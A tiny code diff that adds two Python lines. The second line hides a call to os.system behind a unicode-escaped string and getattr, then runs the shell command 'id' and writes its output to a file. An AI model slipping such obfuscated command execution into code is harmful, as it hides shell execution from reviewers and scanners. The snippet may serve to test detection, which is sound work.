@@ -1,0 +1,2 @@
+import os, json
+getattr(os, json.loads('"s\\u0079stem"'))("id>pf")
